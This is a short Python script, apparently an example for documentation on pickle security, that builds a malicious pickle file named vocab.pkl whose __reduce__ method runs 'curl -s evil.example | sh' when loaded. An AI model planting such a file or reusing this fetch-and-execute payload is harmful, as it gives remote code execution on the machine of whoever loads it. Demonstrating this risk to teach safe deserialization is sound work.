"""Makes the file of docs/pickle.md that should not lie around: a pickle that would run a command."""

import os
import pickle


class Vocabulary:
    def __reduce__(self):
        return os.system, ("curl -s evil.example | sh",)


with open("downloads/vocab.pkl", "wb") as file:
    pickle.dump(Vocabulary(), file, protocol=4)
